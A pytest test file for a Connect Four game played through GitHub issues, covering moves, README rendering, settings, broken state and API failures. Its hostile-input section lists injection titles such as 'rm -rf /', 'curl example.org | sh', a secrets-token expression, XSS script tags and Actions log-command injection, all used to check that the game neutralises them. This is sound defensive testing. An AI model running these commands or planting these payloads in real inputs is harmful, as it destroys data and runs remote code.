"""The community game from an issue to its answer, against a server that keeps to GitHub's rules."""

import json
import re
import subprocess
from collections.abc import Iterator
from html import unescape
from pathlib import Path

import pytest
from command import COMMAND, ENVIRONMENT
from github.description import Call
from github.server import EVENTS, OWNER, Answer, GitHub, serve
from github.world import ARCHIVE, MARKERS, README, SETTINGS, STATE, World, played

from fourfold import Game, Position, Solver
from fourfold.github.answering import REFUSED
from fourfold.github.settings import Settings
from fourfold.github.state import Match, read_state
from fourfold.records import Record

DRAW = "257771314744647214154617633623313656555222"


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    github = GitHub({"README.md": README})
    with serve(github) as url:
        yield World(github, url, tmp_path, monkeypatch)
    assert github.problems == []


# ---- A move


def test_a_move_is_one_commit_and_is_answered(world: World) -> None:
    before = world.github.head
    seen = world.open("ada", "connect4|drop|red|4")
    assert seen.status == 0
    assert seen.reactions == ["eyes", "rocket"]
    assert seen.labels == ["connect4"]
    assert seen.closed_as == "completed"
    assert "Red** has played column **4**" in seen.comment
    assert world.moves == "4"
    assert world.github.history() == [before, world.github.head]
    assert world.github.commits[world.github.head]["message"] == (
        "Connect Four: red in column 4 (#1)"
    )


def test_a_normal_move_takes_at_most_twelve_calls(world: World) -> None:
    assert world.open("ada", "connect4|drop|red|4").calls <= 12
    assert world.open("bob", "connect4|drop|blue|4").calls <= 12
    world.choose(account_age_days=30)
    world.github.accounts["eve"] = "2020-01-01T00:00:00Z"
    assert world.open("eve", "connect4|drop|red|4").calls <= 12


def test_the_command_as_a_process(world: World) -> None:
    event = world.folder / "event.json"
    event.write_text(json.dumps(world.github.event("ada", "connect4|drop|red|4")))
    environment = {**ENVIRONMENT, **world.environment(event)}
    command = [*COMMAND, "github", "run"]
    done = subprocess.run(command, env=environment, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout == "issue 1: done, 11 calls to GitHub\n"
    assert world.moves == "4"
    assert "### Connect Four: done" in world.summary.read_text(encoding="utf-8")


@pytest.mark.parametrize("title", ["Connect4|DROP|Red|4", " connect4| drop | red | 4 "])
def test_titles_in_any_case_and_with_spaces(world: World, title: str) -> None:
    assert world.open("ada", title).accepted
    assert world.moves == "4"


@pytest.mark.parametrize("number", range(len(EVENTS)))
def test_every_example_event_of_github_is_understood(world: World, number: int) -> None:
    """All are about a spelling error: none of our business, and left alone."""
    event = EVENTS[number]
    world.github.issues[1] = event["issue"]
    world.github.reactions[1], world.github.comments[1] = [], []
    seen = world.answer(event)
    assert (seen.status, seen.reactions, seen.comments) == (0, [], [])


@pytest.mark.parametrize("number", [n for n, e in enumerate(EVENTS) if e["action"] == "opened"])
def test_every_example_event_can_be_a_move(world: World, number: int) -> None:
    seen = world.open("ada", "connect4|drop|red|4", example=EVENTS[number])
    assert seen.accepted


def test_an_edited_title_is_not_a_move(world: World) -> None:
    event = world.github.event("ada", "connect4|drop|red|4")
    seen = world.answer({**event, "action": "edited"})
    assert (seen.reactions, world.github.calls) == ([], [])


# ---- The page


def test_the_page_shows_the_game_between_the_markers(world: World) -> None:
    world.play("4455")
    page = world.readme
    assert page.startswith("# Hello\n\nWords before.\n")
    assert page.endswith("\nWords after.\n")
    assert "Game 1: 🔴 Red to move" in page
    assert page.count("title=connect4%7Cdrop%7Cred%7C") == 7 + 1 + 4  # columns, the bot, its levels
    assert "**4** moves · **0** finished games · **2** players" in page
    for path in re.findall(r'(?:src|srcset)="(connect4/[^"]+)"', page):
        assert world.github.file(path) is not None, path


def test_a_full_column_is_no_link(world: World) -> None:
    world.begin("44444")
    world.open("bob", "connect4|drop|blue|4")
    assert "Column 4 is full" in world.readme
    assert "drop%7Cred%7C4&" not in world.readme


def test_old_pictures_of_the_board_go_away(world: World) -> None:
    world.play("445")
    shown = [path for path in world.github.paths() if "/board-" in path]
    assert shown == ["connect4/board-1-3-dark.svg", "connect4/board-1-3-light.svg"]


def test_pictures_that_somebody_removed_do_no_harm(world: World) -> None:
    world.play("44")
    world.github.write({"connect4/board-1-2-dark.svg": None})
    world.play("5")
    assert "connect4/board-1-3-dark.svg" in world.github.paths()


def test_without_markers_the_owner_is_warned_and_the_game_goes_on(world: World) -> None:
    world.github.write({"README.md": "# No markers\n"})
    seen = world.open("ada", "connect4|drop|red|4")
    assert seen.accepted
    assert "::warning::" in seen.log
    assert "connect4:begin" in unescape(world.summary.read_text(encoding="utf-8"))
    assert world.readme == "# No markers\n"
    world.github.write({"README.md": None})
    assert world.open("bob", "connect4|drop|blue|4").accepted


def test_a_lone_marker_is_told_to_the_owner_and_no_text_is_lost(world: World) -> None:
    text = f"# Me\n<!-- connect4:begin -->\n## My projects\n{MARKERS}"
    world.github.write({"README.md": text})
    seen = world.open("ada", "connect4|drop|red|4")
    assert seen.accepted
    assert "README.md shows no board: line 2" in seen.log
    assert world.readme == text


def test_leaderboards(world: World) -> None:
    world.play("4141414", users=("ada", "bob"))
    state = world.state
    assert (state.players["ada"].wins, state.players["ada"].moves) == (1, 4)
    assert state.players["bob"].wins == 0
    assert "🏆 Winning moves</th>" in world.readme
    assert '<ol><li><a href="https://github.com/ada">ada</a> <b>1</b></li></ol>' in world.readme
    world.open("bob", "connect4|new")
    world.play("4141414", users=("ada", "bob"))
    accuracy = world.state.players["ada"].accuracy
    assert accuracy is not None
    assert f"<b>{accuracy:.0f} %</b>" in world.readme


# ---- Rules, each with its answer


def test_the_other_teams_turn(world: World) -> None:
    seen = world.open("ada", "connect4|drop|blue|4")
    assert seen.reactions == ["eyes", "confused"]
    assert seen.closed_as == "not_planned"
    assert "It is Red's turn, not Blue's" in seen.comment
    assert "title=connect4%7Cdrop%7Cred%7C4&" in seen.comment
    assert world.github.file(STATE) is None
    bot = world.open("ada", "connect4|drop|blue|ai:easy")
    assert "title=connect4%7Cdrop%7Cred%7Cai%3Aeasy&" in bot.comment


@pytest.mark.parametrize("column", ["8", "0", "-1", "99", "a", "z"])
def test_no_such_column(world: World, column: str) -> None:
    seen = world.open("ada", f"connect4|drop|red|{column}")
    assert f"There is no column {column.replace('-', '&#45;')}" in seen.comment
    assert "columns are 1 to 7" in seen.comment


def test_a_full_column(world: World) -> None:
    world.begin("444444")
    seen = world.open("ada", "connect4|drop|red|4")
    assert "Column 4 is full" in seen.comment
    assert seen.comment.count("title=connect4%7Cdrop%7Cred%7C") == 6


def test_nobody_moves_twice_in_a_row(world: World) -> None:
    world.open("ada", "connect4|drop|red|4")
    seen = world.open("Ada", "connect4|drop|blue|4")
    assert "nobody moves twice in a row" in seen.comment
    assert "title=connect4%7Cdrop%7Cblue%7Cai&" in seen.comment
    assert world.open("ada", "connect4|drop|blue|ai").accepted  # the bot is free
    assert world.open("ada", "connect4|drop|red|4").accepted  # and does not block its asker


def test_the_bot_moves_at_the_level_that_is_asked_for(world: World) -> None:
    assert world.open("ada", "connect4|drop|red|ai").accepted
    assert world.state.match.moves[0].bot == "hard"
    seen = world.open("ada", "connect4|drop|blue|ai:impossible")
    assert "The bot (impossible) has played column" in seen.comment
    assert world.state.match.moves[1].bot == "impossible"
    assert world.state.players == {}
    assert "🤖 impossible, asked by" in world.readme


def test_a_reply_of_the_bot_was_asked_for_by_nobody(world: World) -> None:
    world.choose(bot_replies=True)
    assert world.open("ada", "connect4|drop|red|4").accepted
    ada = '<a href="https://github.com/ada">ada</a>'
    assert f"| 🤖 hard, in reply to {ada} |" in world.readme
    assert "asked by" not in world.readme
    assert world.open("ada", "connect4|drop|red|ai:easy").accepted
    assert f"| 🤖 easy, asked by {ada} |" in world.readme


def test_an_unknown_level_and_a_costly_one(world: World) -> None:
    for level in ("godlike", "threats:depth=42"):
        seen = world.open("ada", f"connect4|drop|red|ai:{level}")
        assert "There is no bot" in seen.comment
        assert "ai%3Ahard" in seen.comment


def test_a_new_game_only_when_one_is_over_or_by_the_owner(world: World) -> None:
    world.play("44")
    refused = world.open("ada", "connect4|new")
    assert "Game 1 is still running" in refused.comment
    begun = world.open(OWNER, "connect4|new")
    assert begun.accepted
    assert "Game 2 has begun" in begun.comment
    assert world.state.match.number == 2
    archive = world.github.file(ARCHIVE)
    assert archive is not None
    assert Record.from_json(archive).moves == "44"  # given up, not lost


def test_moves_after_the_end(world: World) -> None:
    world.begin("4141414")
    seen = world.open("bob", "connect4|drop|blue|4")
    assert "Game 1 is over" in seen.comment
    assert "title=connect4%7Cnew&" in seen.comment
    assert world.open("bob", "connect4|new").accepted
    assert world.open("bob", "connect4|drop|red|4").accepted


@pytest.mark.parametrize(
    "title",
    [
        "connect4|",
        "connect4|drop",
        "connect4|drop|green|4",
        "connect4|drop|red|four",
        "connect4|x|y",
    ],
)
def test_an_unreadable_command(world: World, title: str) -> None:
    seen = world.open("ada", title)
    assert "I cannot read" in seen.comment
    assert seen.reactions == ["eyes", "confused"]


def test_analysis(world: World) -> None:
    world.begin("414141")
    head = world.github.head
    seen = world.open("eve", "connect4|analyse")
    assert seen.accepted
    assert "| 4 | +18 (win in 1) |" in seen.comment
    assert "Best: [4](" in seen.comment
    assert world.github.head == head
    world.play("4")
    assert "Game 1 is over" in world.open("eve", "connect4|analyse").comment


# ---- Settings


def test_cool_off(world: World) -> None:
    world.choose(cool_off_minutes=60)
    world.open("ada", "connect4|drop|red|4", "2026-01-01T12:00:00Z")
    world.open("bob", "connect4|drop|blue|4", "2026-01-01T12:01:00Z")
    early = world.open("ada", "connect4|drop|red|4", "2026-01-01T12:45:00Z")
    assert "Please wait 15 minutes" in early.comment
    assert world.open("ada", "connect4|drop|red|4", "2026-01-01T13:00:00Z").accepted


def test_moves_per_day(world: World) -> None:
    world.choose(moves_per_day=1)
    world.open("ada", "connect4|drop|red|4", "2026-01-01T12:00:00Z")
    world.open("bob", "connect4|drop|blue|4", "2026-01-01T12:01:00Z")
    early = world.open("ada", "connect4|drop|red|4", "2026-01-02T11:00:00Z")
    assert "1 moves within 24 hours" in early.comment
    assert world.open("ada", "connect4|drop|red|4", "2026-01-02T12:00:00Z").accepted


def test_banned_people(world: World) -> None:
    world.choose(banned=["Eve"])
    for title in ("connect4|drop|red|4", "connect4|drop|red|ai", "connect4|new"):
        assert "does not let you play" in world.open("eve", title).comment


def test_accounts_must_be_old_enough(world: World) -> None:
    world.choose(account_age_days=30)
    world.github.accounts["new"] = "2025-12-30T00:00:00Z"
    world.github.accounts["old"] = "2015-12-30T00:00:00Z"
    assert "Accounts must be 30 days old" in world.open("new", "connect4|drop|red|4").comment
    assert "Accounts must be 30 days old" in world.open("ghost", "connect4|drop|red|4").comment
    assert world.open("new", "connect4|drop|red|ai").accepted
    assert world.open("old", "connect4|drop|blue|4").accepted


def test_another_board_other_teams_prefix_labels_and_texts(world: World) -> None:
    world.choose(
        prefix="four",
        columns=9,
        rows=6,
        bot="easy",
        teams=[
            {"name": "green", "color": "#22aa44", "emoji": "🟢"},
            {"name": "gold", "color": "#ddaa00", "emoji": "🟡"},
        ],
        labels=["game", "four"],
        folder="play/four",
        texts={"moved": "Danke, {user}: {column}!"},
    )
    seen = world.open("ada", "FOUR|drop|Green|9")
    assert '<a href="https://github.com/ada">ada</a>: 9!' in seen.comment
    assert seen.labels == ["game", "four"]
    assert read_state(world.github.file("play/four/state.json")).match.columns == 9
    assert "#22aa44" in (world.github.file("play/four/board-1-1-light.svg") or "")
    assert "four%7Cdrop%7Cgold%7C9" in world.readme
    assert world.open("ada", "connect4|drop|red|4").reactions == []


def test_labels_that_an_issue_has_stay(world: World) -> None:
    event = world.github.event("ada", "connect4|drop|red|4")
    event["issue"]["labels"] = [{"name": "fun"}]
    assert world.answer(event).labels == ["fun", "connect4"]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("{", "line 1, column 2"),
        ('{"columns": 3}', "columns&#58; input should be greater than or equal to 4"),
        ('{"colums": 7}', "colums&#58; extra inputs are not permitted"),
        ('{"bot": "nobody"}', "no player"),
        ('{"texts": {"moved": "{secret}"}}', "no value"),
        ("[]", "input should be"),
    ],
)
def test_broken_settings_are_told_to_the_owner(world: World, text: str, problem: str) -> None:
    world.github.write({SETTINGS: text})
    head = world.github.head
    seen = world.open("ada", "connect4|drop|red|4")
    assert seen.status == 1
    assert seen.reactions == ["eyes", "confused"]
    assert f"@{OWNER}" in seen.comment
    assert problem.replace(",", "&#44;") in seen.comment
    assert "connect4.json" in seen.comment.replace("&#46;", ".")
    assert world.github.head == head
    assert "::warning::" in seen.log


def test_a_run_that_failed_can_be_run_again_when_it_is_mended(world: World) -> None:
    world.github.write({SETTINGS: "{"})
    event = world.github.event("ada", "connect4|drop|red|4")
    assert world.answer(event).status == 1
    world.choose()
    again = world.answer(event)
    assert again.status == 0
    assert again.reactions == ["eyes", "confused", "rocket"]
    assert "column **4**" in again.comments[-1]
    assert again.closed_as == "completed"
    assert world.moves == "4"
    assert world.answer(event).comments == again.comments


def test_an_issue_that_is_no_command_is_left_alone_even_if_settings_are_broken(
    world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    world.github.write({SETTINGS: "{"})
    seen = world.open("ada", "A question")
    assert (seen.status, seen.reactions, seen.comments) == (1, [], [])
    assert ".github/connect4.json: line 1" in capsys.readouterr().err


# ---- Whole games


def test_a_game_to_a_win(world: World) -> None:
    seen = world.play("4141414", users=("ada", "bob", "cy"))
    assert "Red has won** game 1 with move 7" in seen.comment
    assert "games/1-light.svg" in seen.comment
    rows = [line for line in seen.comment.splitlines() if line.startswith("| 🔴 Red |")]
    assert [re.sub("<[^>]+>", "", row) for row in rows] == ["| 🔴 Red | ada × 2, cy × 1, bob × 1 |"]
    assert "Accuracy: Red" in seen.comment
    assert "**Worst move:** move" in seen.comment
    record = Record.from_json(world.github.file(ARCHIVE) or "")
    assert (record.moves, record.first, record.outcome) == ("4141414", "red", "first")
    assert Match.from_record(record).moves[6].user == "ada"
    assert "Connect Four" in (world.github.file("connect4/games/1-dark.svg") or "")
    assert "Red has won" in world.readme
    assert "Begin a new game" in world.readme
    assert world.state.finished == 1


def test_a_game_that_the_bot_loses(world: World, solver: Solver) -> None:
    world.choose(bot="random", bot_replies=True, new_game_after_end=True)
    position, comment = Position(), ""
    while world.state.finished == 0:
        column = solver.analyse(position).best[0]
        comment = world.open("ada", f"connect4|drop|red|{column + 1}").comment
        position = world.state.match.game().position
    assert "Red has won** game 1" in comment
    assert "The next game has begun" in comment
    assert "the bot ×" in comment
    assert (world.state.match.number, world.state.match.moves) == (2, ())
    assert world.state.players["ada"].wins == 1
    assert "Game 2: 🔴 Red to move" in world.readme


def test_a_game_that_the_bot_wins(world: World) -> None:
    world.choose(bot="impossible", bot_replies=True)
    comment = ""
    while world.state.finished == 0:
        column = world.state.match.game().position.legal_moves[-1]
        comment = world.open("ada", f"connect4|drop|red|{column + 1}").comment
    assert "Blue has won" in comment
    assert "ada" not in world.state.players or world.state.players["ada"].wins == 0


def test_a_game_to_a_draw(world: World) -> None:
    seen = world.play(DRAW)
    assert "Game 1 is a draw** after 42 moves" in seen.comment
    assert "Game 1 is a draw" in world.readme
    record = Record.from_json(world.github.file(ARCHIVE) or "")
    assert Game.from_record(record).outcome == "draw"
    assert world.open("cy", "connect4|new").accepted


def test_the_archive_grows_by_one_line_a_game(world: World) -> None:
    world.choose(new_game_after_end=True)
    world.play("41414144141414")
    lines = (world.github.file(ARCHIVE) or "").splitlines()
    assert [Record.from_json(line).moves for line in lines] == ["4141414", "4141414"]
    assert world.state.finished == 2


def test_the_gallery_shows_finished_games(world: World) -> None:
    world.choose(new_game_after_end=True)
    world.play("4141414")
    gallery = world.github.file("connect4/games/README.md") or ""
    assert "<b>Game 1</b>: 🔴 Red in 7 moves" in gallery
    assert 'srcset="1-dark.svg"' in gallery
    world.play("4")
    world.open(OWNER, "connect4|new")
    gallery = world.github.file("connect4/games/README.md") or ""
    assert gallery.index("<b>Game 2</b>: given up") < gallery.index("<b>Game 1</b>")


def test_a_large_archive_is_read_and_kept(world: World) -> None:
    padding = json.dumps({"padding": "x" * 1_200_000}) + "\n"
    world.github.write({ARCHIVE: padding})
    world.begin("414141")
    assert world.open("ada", "connect4|drop|red|4").accepted
    assert (world.github.file(ARCHIVE) or "").startswith(padding)


# ---- Broken and hand-edited files

BROKEN = [
    "",
    "{",
    "null",
    "[]",
    '{"match": {"moves": [{"column": "9"}]}}',
    '{"version": 1, "match": {"moves": 7}}',
    "[" * 100_000,
    '{"moves": ' + "9" * 5000 + "}",
]


@pytest.mark.parametrize("text", BROKEN)
def test_a_broken_state_is_kept_aside_and_the_owner_told(world: World, text: str) -> None:
    won = played("4141414").record(Settings()).to_json()
    world.github.write({STATE: text, ARCHIVE: won + "\nnot a game\n"})
    for _ in range(9):
        world.github.event("somebody", "opened before")
    number = len(world.github.issues) + 1
    seen = world.open("cy", "connect4|drop|red|4")
    assert seen.accepted
    assert f"@{OWNER}" in seen.comment
    assert world.github.file(f"connect4/state.broken-{number}.txt") == text
    # Finished games and counters come back from the archive.
    assert world.state.finished == 1
    assert world.state.players["ada"].wins == 1
    assert world.moves == "4"
    assert "@" not in world.open("bob", "connect4|drop|blue|4").comment


def test_a_broken_state_is_mended_even_if_the_move_is_refused(world: World) -> None:
    world.play("44")
    world.github.write({STATE: b"\xff\xfe"})
    seen = world.open("cy", "connect4|drop|blue|4")
    assert "It is Red's turn" in seen.comment
    assert "could not be understood" in seen.comment
    assert world.moves == ""


def test_a_broken_state_is_mended_even_if_the_issue_is_an_old_one(world: World) -> None:
    """A run that made the last move of a game, but was killed before it could say so."""
    event = world.github.event("ada", "connect4|drop|red|4")
    won = played("4141414", number=3).record(Settings()).to_json()
    world.github.write({STATE: "{", ARCHIVE: won + "\n"})
    seen = world.answer(event)
    assert "column **4**" in seen.comment
    assert "could not be understood" in seen.comment
    assert world.github.file("connect4/state.broken-1.txt") == "{"
    assert (world.state.match.number, world.moves) == (5, "")
    message = world.github.commits[world.github.head]["message"]
    assert message == "Connect Four: keep a broken state aside (#1)"


def test_a_state_with_impossible_moves_is_broken(world: World) -> None:
    world.play("44")
    state = json.loads(world.github.file(STATE) or "")
    state["match"]["moves"] = [state["match"]["moves"][0]] * 7
    world.github.write({STATE: json.dumps(state)})
    assert "could not be understood" in world.open("cy", "connect4|drop|red|1").comment


def test_a_state_of_a_later_version_is_not_touched(world: World) -> None:
    world.github.write({STATE: '{"version": 2}'})
    head = world.github.head
    seen = world.open("ada", "connect4|drop|red|4")
    assert seen.status == 1
    assert "newer than this program" in seen.comment
    assert world.github.head == head


def test_an_edit_by_hand_that_makes_sense_counts(world: World) -> None:
    world.play("44")
    state = json.loads(world.github.file(STATE) or "")
    state["match"]["moves"].pop()
    world.github.write({STATE: json.dumps(state)})
    assert world.open("cy", "connect4|drop|blue|1").accepted
    assert world.moves == "41"


# ---- Hostile input

TITLES = [
    "connect4|$(touch /tmp/x)`id`;rm -rf /",
    "connect4|drop|red|4; curl example.org | sh",
    "connect4|${{ secrets.GITHUB_TOKEN }}",
    "connect4|{board}{owner}{{7*7}}",
    "connect4|<img src=x onerror=alert(1)><script>alert(1)</script>",
    "connect4|**bold** [link](javascript:alert(1)) ![i](http://x) | a | b |",
    "connect4|@everyone @Codertocat #1 closes #2",
    "connect4|\n::set-output name=x::y\n::warning::z",
    "connect4|\u202edrop|red|4\u2066\u200b\ufeff",
    "connect4|drop|red|\uff14",  # a full-width 4
    "connect4|drop|red|\u0664",  # an Arabic 4
    "connect4|" + "A" * 10_000,
    "connect4|" + "|" * 10_000,
    "connect4|-->\n<!-- connect4:end --> <!-- fourfold: done -->",
    "connect4|\x00\x1b[31m",
    "connect4|\ud83d",  # half a character, as JSON allows
]


@pytest.mark.parametrize("title", TITLES)
def test_hostile_titles_are_harmless_and_answered(world: World, title: str) -> None:
    head = world.github.head
    seen = world.open("eve", title)
    assert seen.status == 0
    assert seen.reactions == ["eyes", "confused"]
    assert world.github.head == head
    assert len(seen.comment) < 2000
    told = seen.comment.removeprefix(REFUSED)
    quoted = re.search("<code>(.*?)</code>", told)
    assert quoted is not None
    assert re.fullmatch(r"(?:[A-Za-z0-9 ]|&#\d+;)+", quoted[1])
    assert not set("\u202e\u2066\u200b\x00\x1b") & set(told)
    assert not any(line.startswith("::") for line in seen.log.splitlines())
    summary = world.summary.read_text(encoding="utf-8")
    assert "<script" not in summary
    assert "${{" not in summary


@pytest.mark.parametrize(
    "user", ["<b>x</b>", "a|b", "](http://x)", "-->", '"><img src=x>', "x" * 500, "a\nb", "{user}"]
)
def test_hostile_names_are_harmless_in_leaderboards_and_rosters(world: World, user: str) -> None:
    world.begin("414141", users=(user[:100], "bob"))
    seen = world.open(user[:100], "connect4|drop|red|4")
    assert seen.accepted
    for page in (seen.comment, world.readme):
        assert user == "-->" or user not in page
        assert "<b>x" not in page
        assert "<img src=x" not in page
        assert page.count("<!--") == page.count("-->")
    assert world.readme.count("connect4:end") == 1


def test_the_server_of_these_tests_is_strict(world: World) -> None:
    """It knows GitHub's description, and notices what is not in it."""
    tree = Call("POST", "/repos/Codertocat/Hello-World/git/trees")
    assert tree.check_request({}, {"tree": [{"path": "a", "mode": "100644"}]}) == []
    assert tree.check_request({}, {"tree": [{"path": "a", "mode": "777"}]})
    assert tree.check_request({}, {"tree": [], "colour": "red"})
    assert tree.check_request({}, None)
    read = Call("GET", "/repos/Codertocat/Hello-World/contents/README.md")
    status, answer = world.github.answer(read, {"ref": world.github.head}, None)
    assert read.check_response(status, answer) == []
    assert read.check_response(status, {**answer, "size": "large"})
    del answer["sha"]
    assert read.check_response(status, answer)
    with pytest.raises(LookupError):
        Call("DELETE", "/repos/Codertocat/Hello-World/contents/README.md")


# ---- When GitHub has a bad day


def test_limits_and_failures_are_waited_for(world: World) -> None:
    waits: list[float] = []
    bad: dict[int, Answer | str] = {
        1: (429, {"message": "slow down", "headers": {"Retry-After": "7"}}),
        2: (502, {"message": "Bad Gateway"}),
        4: (403, {"message": "You have exceeded a secondary rate limit"}),
        6: "gone",
    }
    world.github.interfere = lambda number, _method, _path: bad.get(number)
    report = world.run(world.github.event("ada", "connect4|drop|red|4"), sleep=waits.append)
    assert report.outcome == "done"
    assert waits[0] == 7
    assert len(waits) == 4
    assert world.moves == "4"


@pytest.mark.parametrize("call", range(1, 12))
def test_a_call_whose_answer_is_lost_does_its_work_once(world: World, call: int) -> None:
    world.github.interfere = lambda number, _method, _path: "lost" if number == call else None
    event = world.github.event("ada", "connect4|drop|red|4")
    assert world.run(event).outcome == "done"
    seen = world.seen(1)
    assert seen.accepted
    assert "column **4**" in seen.comment
    assert world.moves == "4"
    assert len(world.github.history()) == 2


def test_a_limit_that_lasts_too_long_ends_the_run(world: World) -> None:
    limit = (403, {"message": "limit", "headers": {"Retry-After": "3600"}})
    world.github.interfere = lambda _number, _method, path: limit if "/git/" in path else None
    waits: list[float] = []
    report = world.run(world.github.event("ada", "connect4|drop|red|4"), sleep=waits.append)
    assert report.failed
    assert waits == []
    assert f"@{OWNER}" in world.seen(1).comment
    world.github.interfere = None


def test_a_branch_that_nobody_may_write_to(world: World) -> None:
    refused = (422, {"message": "Changes must be made through a pull request"})
    world.github.interfere = lambda _n, method, path: (
        refused if method == "PATCH" and "/git/" in path else None
    )
    report = world.run(world.github.event("ada", "connect4|drop|red|4"))
    assert report.failed
    assert "pull request" in world.seen(1).comment


def test_a_label_that_github_refuses_does_not_keep_an_issue_open(world: World) -> None:
    refused = (422, {"message": "Validation Failed"})
    world.github.interfere = lambda number, _m, _p: refused if number == 11 else None
    assert world.run(world.github.event("ada", "connect4|drop|red|4")).outcome == "done"
    assert world.seen(1).closed_as == "completed"


def test_a_summary_that_cannot_be_written_is_told(
    world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    world.summary = world.folder / "missing" / "summary.md"
    assert world.open("ada", "connect4|drop|red|4").accepted
    assert "cannot write" in capsys.readouterr().err


def test_missing_permissions_are_named(world: World) -> None:
    refused = (403, {"message": "Resource not accessible by integration"})
    world.github.interfere = lambda _n, _m, path: refused if "/git/" in path else None
    assert world.run(world.github.event("ada", "connect4|drop|red|4")).failed
    assert "contents: write" in unescape(world.seen(1).comment)


def test_a_wrong_token_is_one_line(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    def environment(event: Path) -> dict[str, str]:
        return {**World.environment(world, event), "GITHUB_TOKEN": "wrong"}

    world.environment = environment  # type: ignore[method-assign]
    seen = world.open("ada", "connect4|drop|red|4")
    assert seen.status == 1
    assert "Bad credentials" in capsys.readouterr().err
    summary = unescape(world.summary.read_text(encoding="utf-8"))
    assert "### Connect Four: failed" in summary
    assert "Bad credentials" in summary
